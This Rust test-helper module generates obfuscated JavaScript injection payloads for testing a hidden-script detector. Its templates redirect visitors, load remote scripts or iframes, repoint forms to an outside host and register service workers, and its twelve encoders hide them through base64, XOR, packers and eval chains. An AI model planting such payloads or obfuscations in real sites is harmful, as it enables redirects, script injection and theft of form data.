//! Hides scripts in the ways in which they are found hidden, so that tests know what is in them.
#![allow(dead_code, reason = "not every test hides in every way")]

/// What a script does with its target, which stands for `@`.
pub(crate) const PAYLOADS: [(&str, &str); 20] = [
    ("write link", "document.write(@'<a href=\"http://~/\">x</a>'@);"),
    ("writeln script", "document.writeln(@'<script src=\"//~/a.js\"></script>'@);"),
    ("location", "location=@'http://~/'@;"),
    ("location href", "window.top.location.href=@'http://~/'@;"),
    ("location replace", "self.location.replace(@'http://~/?a'@);"),
    ("open", "window.open(@'http://~/'@);"),
    ("inner html", "document.getElementById('a').innerHTML=@'<a href=\"http://~/\">x</a>'@;"),
    ("adjacent html", "document.body.insertAdjacentHTML('beforeend',@'<iframe src=\"//~/\"></iframe>'@);"),
    ("script element", "var s=document.createElement('script');s.src=@'//~/b.js'@;document.head.appendChild(s);"),
    (
        "frame element",
        "var f=document.createElement('iframe');f.setAttribute('src',@'//~/'@);document.body.appendChild(f);",
    ),
    ("referrer", "if(/baidu|sogou/.test(document.referrer)){location.href=@'http://~/'@}"),
    ("agent", "var u=navigator.userAgent.toLowerCase();if(u.indexOf('mobile')>-1)location.assign(@'http://~/'@);"),
    ("cookie", "function c(n){return document.cookie.indexOf(n)<0}if(c('v'))window.open(@'http://~/'@);"),
    ("fetch", "fetch(@'https://~/c'@).then(function(r){return r.text()});"),
    ("socket", "new WebSocket(@'wss://~/'@);"),
    ("picture", "(new Image).src=@'http://~/d.gif'@;"),
    ("form", "document.forms[0].action=@'http://~/e'@;"),
    ("worker", "navigator.serviceWorker.register(@'https://~/sw.js'@);"),
    ("query", "jQuery('body').append(@'<a href=\"http://~/\">x</a>'@);"),
    ("later", "setTimeout(function(){location.replace(@'http://~/'@)},100);"),
];

/// Hides a payload whose target is this host.
pub(crate) type Hide = fn(&str, &str) -> String;

/// The ways.
pub(crate) const STYLES: [(&str, Hide); 12] = [
    ("pieces", |payload, host| strings(payload, host, "", &pieces)),
    ("escapes", |payload, host| strings(payload, host, "", &escapes)),
    ("char codes", |payload, host| strings(payload, host, "", &char_codes)),
    ("base64", |payload, host| strings(payload, host, "", &|text| format!("atob('{}')", base64(text)))),
    ("percent", |payload, host| strings(payload, host, "", &|text| format!("unescape('{}')", percent(text)))),
    ("reverse", |payload, host| strings(payload, host, "", &reversed)),
    ("table", table),
    ("xor", |payload, host| strings(payload, host, XOR, &xor)),
    ("alphabet", |payload, host| strings(payload, host, ALPHABET, &alphabet)),
    ("packer", |payload, host| packed(&plain(payload, host))),
    ("eval of base64", |payload, host| {
        let inner = format!("eval(atob('{}'))", base64(&plain(payload, host)));
        format!("window['ev'+'al'](atob('{}'))", base64(&inner))
    }),
    ("packer in hex", |payload, host| {
        let codes: Vec<String> = packed(&plain(payload, host)).bytes().map(|byte| format!("0x{byte:x}")).collect();
        format!(
            "(function(a){{var s='';for(var i=0;i<a.length;i++){{s+=String.fromCharCode(a[i])}}Function(s)()}})([{}])",
            codes.join(",")
        )
    }),
];

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\\', "\\\\").replace('\'', "\\'"))
}

/// The payload as it is before it is hidden.
fn plain(payload: &str, host: &str) -> String {
    strings(payload, host, "", &quoted)
}

/// Puts something in the place of each marked string.
fn strings(payload: &str, host: &str, before: &str, hide: &dyn Fn(&str) -> String) -> String {
    let mut made = before.to_owned();
    for (index, piece) in payload.split('@').enumerate() {
        let text = piece.trim_start_matches('\'').trim_end_matches('\'').replace('~', host);
        if index % 2 == 1 { made.push_str(&hide(&text)) } else { made.push_str(piece) }
    }
    made
}

fn pieces(text: &str) -> String {
    let chars: Vec<char> = text.chars().collect();
    let pieces: Vec<String> = chars.chunks(3).map(|piece| quoted(&piece.iter().collect::<String>())).collect();
    pieces.join("+")
}

fn escapes(text: &str) -> String {
    let escaped: Vec<String> = text
        .char_indices()
        .map(|(at, c)| match at % 3 {
            0 => format!("\\x{:02x}", c as u32),
            1 => format!("\\u{:04x}", c as u32),
            _ => format!("\\{:o}", c as u32),
        })
        // A digit behind an octal escape would belong to it, so every one is full.
        .map(
            |escape| {
                if escape.len() == 3 && !escape.starts_with("\\x") { format!("\\0{}", &escape[1..]) } else { escape }
            },
        )
        .collect();
    format!("'{}'", escaped.concat())
}

fn char_codes(text: &str) -> String {
    let codes: Vec<String> = text.bytes().map(|byte| (u32::from(byte) + 7).to_string()).collect();
    format!("String.fromCharCode.apply(null,[{}].map(function(n){{return n-7}}))", codes.join(","))
}

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

fn reversed(text: &str) -> String {
    format!("{}.split('').reverse().join('')", quoted(&text.chars().rev().collect::<String>()))
}

/// A table of pieces that is turned until a sum fits, and a function that looks them up by a number.
fn table(payload: &str, host: &str) -> String {
    let mut table: Vec<String> = Vec::new();
    let body = {
        let table = std::cell::RefCell::new(&mut table);
        strings(payload, host, "", &|text| {
            let chars: Vec<char> = text.chars().collect();
            let looked_up = chars.chunks(4).map(|piece| {
                let mut table = table.borrow_mut();
                table.push(base64(&piece.iter().collect::<String>()));
                format!("_0x2f(0x{:x})", table.len() - 1 + 0x1a3)
            });
            looked_up.collect::<Vec<_>>().join("+")
        })
    };
    table.push(base64("777"));
    let number = table.len() - 1;
    let turns = 3 % table.len();
    table.rotate_right(turns);
    let words: Vec<String> = table.iter().map(|word| quoted(word)).collect();
    format!(
        "var _0x1c=[{}];(function(a,n){{while(!![]){{try{{var v=parseInt(_0x2f(0x{:x}))/0x1;if(v===n)break;else a['push'](a['shift']())}}\
         catch(e){{a['push'](a['shift']())}}}}}}(_0x1c,777));function _0x2f(i){{i=i-0x1a3;var w=_0x1c[i];return atob(w)}}{body}",
        words.join(","),
        number + 0x1a3
    )
}

const XOR: &str = "function x(h,k){var r='';for(var i=0;i<h.length;i+=2){\
    r+=String.fromCharCode(parseInt(h.substr(i,2),16)^k.charCodeAt(i/2%k.length))}return r}";

fn xor(text: &str) -> String {
    let hex: String =
        text.bytes().zip("key".bytes().cycle()).map(|(byte, key)| format!("{:02x}", byte ^ key)).collect();
    format!("x('{hex}','key')")
}

const ALPHABET: &str = "var A='zyxwvutsrqponmlkjihgfedcba:/.0123456789',B='abcdefghijklmnopqrstuvwxyz./:9876543210';\
    const d=s=>[...s].map(c=>{const i=A.indexOf(c);return i<0?c:B[i]}).join``;";

fn alphabet(text: &str) -> String {
    let (from, to) = ("abcdefghijklmnopqrstuvwxyz./:9876543210", "zyxwvutsrqponmlkjihgfedcba:/.0123456789");
    let hidden: String = text.chars().map(|c| from.find(c).map_or(c, |at| char::from(to.as_bytes()[at]))).collect();
    format!("d({})", quoted(&hidden))
}

/// A script whose words are numbers in a list.
pub(crate) fn packed(source: &str) -> String {
    let is_of_word = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let mut words: Vec<&str> = source.split(|c| !is_of_word(c)).filter(|word| !word.is_empty()).collect();
    words.sort_unstable();
    words.dedup();
    let number = |index: usize| {
        let digit = |digit: usize| char::from(b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"[digit]);
        if index < 62 { digit(index).to_string() } else { format!("{}{}", digit(index / 62), digit(index % 62)) }
    };
    let mut made = String::new();
    let mut rest = source;
    while let Some(start) = rest.find(is_of_word) {
        made.push_str(&rest[..start]);
        let length = rest[start..].find(|c| !is_of_word(c)).unwrap_or(rest.len() - start);
        let index = words.binary_search(&&rest[start..start + length]).unwrap();
        made.push_str(&number(index));
        rest = &rest[start + length..];
    }
    made.push_str(rest);
    format!(
        "eval(function(p,a,c,k,e,d){{e=function(c){{return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))}};\
         if(!''.replace(/^/,String)){{while(c--){{d[e(c)]=k[c]||e(c)}}k=[function(e){{return d[e]}}];e=function(){{return'\\\\w+'}};c=1}};\
         while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}({},62,{},'{}'.split('|'),0,{{}}))",
        quoted(&made),
        words.len(),
        words.join("|")
    )
}

pub(crate) fn base64(text: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut made = String::new();
    for chunk in text.as_bytes().chunks(3) {
        let bits = chunk.iter().fold(0_u32, |bits, &byte| bits << 8 | u32::from(byte)) << (8 * (3 - chunk.len()));
        for index in 0..4 {
            made.push(if index <= chunk.len() {
                char::from(DIGITS[(bits >> (18 - 6 * index) & 63) as usize])
            } else {
                '='
            });
        }
    }
    made
}
